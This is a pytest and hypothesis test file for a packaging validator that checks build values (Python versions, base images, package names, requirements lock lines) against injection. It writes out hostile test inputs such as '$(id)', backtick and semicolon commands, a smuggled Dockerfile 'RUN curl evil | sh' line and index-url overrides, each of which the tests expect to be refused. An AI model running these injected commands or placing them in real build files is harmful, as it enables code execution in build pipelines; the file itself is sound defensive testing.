"""No text that a grammar accepts can end a line, a quotation or a command."""

from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mlops_build.packaging import grammar
from mlops_build.packaging.grammar import BadValue

DANGEROUS = set("\n\r\t\0 \"'`$;&|<>(){}\\!*?~^%,\u2028\u2029\x85\x0b\x0c")
HASH = f"--hash=sha256:{'0' * 64}"

ACCEPTED: list[tuple[Callable[[object], object], str]] = [
    (grammar.python_version, "3.11"),
    (grammar.torch_version, "2.13.0"),
    (grammar.torch_version, "2.13.0rc1"),
    (grammar.base_image, "python:3.11-slim"),
    (grammar.base_image, f"registry.example.com:5000/team/python:3.11@sha256:{'a' * 64}"),
    (grammar.apt_package, "libgl1"),
    (grammar.apt_package, "libstdc++6"),
    (grammar.model_name, "digits-2"),
    (grammar.commit, "0" * 40),
    (grammar.wheel_name, "mlops_build-0.1.0-py3-none-any.whl"),
    (grammar.wheel_name, "x-1.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl"),
]
CHECKS = list(dict.fromkeys(check for check, _ in ACCEPTED))
FORM = st.sampled_from([value for _, value in ACCEPTED])


@pytest.mark.parametrize(("check", "value"), ACCEPTED)
def test_what_is_meant_is_accepted(check: Callable[[object], object], value: str) -> None:
    assert check(value) == value


@pytest.mark.parametrize("check", CHECKS)
@given(
    value=st.one_of(
        st.text(max_size=40),
        # A good value with something put into it: what an attacker would try first.
        st.builds(lambda good, at, bad: good[:at] + bad + good[at:], FORM, st.integers(0, 40), st.text(max_size=6)),
        st.builds(
            lambda good, bad: good + bad, FORM, st.sampled_from(["\n", "\r", "\nRUN id", "$(id)", "`id`", ";id", '"', "'", "\u2028", " "])
        ),
    )
)
def test_nothing_that_is_accepted_is_dangerous(check: Callable[[object], object], value: str) -> None:
    try:
        accepted = str(check(value))
    except BadValue:
        return
    assert accepted == value
    assert not DANGEROUS & set(accepted)
    assert accepted.isascii()


@pytest.mark.parametrize("check", CHECKS)
@pytest.mark.parametrize("value", [None, 3.11, 3, b"3.11", ["3.11"], ""])
def test_other_types_are_refused(check: Callable[[object], object], value: object) -> None:
    with pytest.raises(BadValue):
        check(value)


def test_a_refusal_names_the_field_and_shows_the_value_shortened() -> None:
    with pytest.raises(BadValue) as caught:
        grammar.python_version("3.11\nRUN curl evil | sh" + "x" * 1000, "points 3: python")
    assert caught.value.message.startswith("points 3: python: '3.11\\nRUN curl evil")
    assert len(caught.value.message) < 150
    assert caught.value.exit_code == 4
    assert "3.11" in str(caught.value.remedy)


def test_a_lock_is_written_anew() -> None:
    other, marker = HASH.replace("0", "1"), "python_version < '3.12' and sys_platform == \"linux\""
    text = f"# by uv\nB_b==1.0 \\\n    {HASH} \\\n    {other}\n\na.a[x]==2!1.0+local ; {marker} {HASH}\n"
    locked = grammar.lock(text)
    assert locked == f"b-b==1.0 \\\n    {HASH} \\\n    {other}\na-a[x]==2!1.0+local ; {marker} \\\n    {HASH}\n"
    assert grammar.lock(locked) == locked
    assert grammar.pinned(locked) == {"b-b": "1.0", "a-a": "2!1.0+local"}
    assert grammar.lock("") == ""


@pytest.mark.parametrize(
    "line",
    [
        "a==1.0",
        f"a>=1.0 {HASH}",
        f"a==1.* {HASH}",
        f"torch==2.13.0 {HASH}",
        f"mlops_build==0.1.0 {HASH}",
        f"a @ https://example.com/a.whl {HASH}",
        f"git+https://example.com/a.git {HASH}",
        f"-e . {HASH}",
        "-i https://example.com/simple",
        "--index-url https://example.com/simple",
        f"a==1.0 {HASH} --index-url=https://example.com",
        "--extra-index-url https://example.com/simple",
        "--find-links /tmp",
        "-r other.txt",
        "-c other.txt",
        "--no-binary :all:",
        f"./a.whl {HASH}",
        f"a==1.0 {HASH} # --index-url x",
        f"a==1.0 ; python_version < '3.12' or $(id) {HASH}",
        f"a==1.0 ; (python_version < '3.12' {HASH}",
        f"a==1.0 --hash=md5:{'0' * 32}",
        f"a==1.0 {HASH}\r-i https://example.com",
        f"a==1.0 {HASH}\x0b-i https://example.com",
        f"a==1.0 {HASH}\u2028-i https://example.com",
        f"a==1.0 \\\n -i https://example.com {HASH}",
        f"a==${{TOKEN}} {HASH}",
    ],
)
def test_a_lock_holds_pinned_names_with_hashes_and_nothing_else(line: str) -> None:
    with pytest.raises(BadValue, match=r"requirements\.lock"):
        grammar.lock(f"b==1.0 {HASH}\n{line}\n")


@given(st.text(max_size=200))
def test_no_line_of_an_accepted_lock_is_an_option(text: str) -> None:
    try:
        locked = grammar.lock(f"a==1.0 {HASH}\n{text}\n")
    except BadValue:
        return
    assert all(line.startswith("    --hash=sha256:") or line[0].isalnum() for line in locked.splitlines())
